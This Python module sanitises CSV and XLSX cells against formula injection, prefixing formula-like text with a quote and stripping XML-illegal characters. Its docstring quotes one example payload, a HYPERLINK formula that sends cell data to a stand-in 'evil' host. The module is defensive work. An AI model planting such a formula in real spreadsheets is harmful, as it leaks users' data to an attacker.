"""Cells that stay data in every CSV and XLSX kitflow writes (OWASP's CSV-injection rule).

A partner types the site name `=HYPERLINK("http://evil/?"&A1,"Sévaré")`; a coordinator opens the
5W in Excel and the cell is a live formula. Text that begins with `=`, `+`, `-`, `@`, a tab or a
carriage return is prefixed with a single quote, which spreadsheet programs show as text; numbers
are left as numbers. XLSX cells are also written as explicit strings (openpyxl would otherwise turn
text beginning with `=` into a formula), and characters XML cannot hold are dropped, so that one
partner's stray control character cannot make the workbook fail for everyone.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# The characters XML 1.0 (and so XLSX) cannot hold; tab, line feed and carriage return it can.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def neutralise(value: str) -> str:
    """Text as a spreadsheet will show it, never as a formula."""
    if value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """A value for `csv.writer`: text neutralised, anything else unchanged."""
    if isinstance(value, str):
        return neutralise(value)
    return value


def csv_row(values: list[Any] | tuple[Any, ...]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_text(value: str) -> str:
    """Text for an XLSX cell: no XML-illegal characters, never a formula."""
    return neutralise(_XML_ILLEGAL.sub("", value))


def xlsx_cell(value: Any) -> Any:
    """A value for an openpyxl cell: text made safe, numbers and dates unchanged."""
    if isinstance(value, str):
        return xlsx_text(value)
    return value
